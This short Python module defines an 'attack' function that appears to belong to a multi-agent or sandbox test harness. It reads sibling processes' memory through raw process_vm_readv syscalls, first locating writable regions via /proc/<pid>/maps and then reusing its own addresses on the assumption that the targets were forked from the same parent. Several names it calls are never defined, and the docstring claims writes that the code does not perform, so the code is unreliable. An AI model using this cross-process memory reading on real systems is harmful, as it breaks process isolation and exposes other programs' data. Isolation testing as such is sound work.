"""Read and write the memory of the processes around it with process_vm_readv."""

import ctypes

CONTROL = "root"


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


async def attack(agent, message, ctx, targets):
    buffer = ctypes.create_string_buffer(8)
    here = Vector(ctypes.addressof(buffer), 8)
    found = []
    for pid in relatives(targets):
        with _contextlib.suppress(OSError, StopIteration), open(f"/proc/{pid}/maps", encoding="utf-8") as maps:
            there = Vector(next(int(line.split("-")[0], 16) for line in maps if " rw" in line), 8)
            if attempt(syscall, 310, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) == 8:
                found.append(pid)
    # Without a map of the other's memory its own addresses will do: it was forked from the same process.
    there = Vector(id(NOTES), 8)
    for pid in relatives(targets):
        if attempt(syscall, 310, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) == 8:
            found.append(pid)
    return found
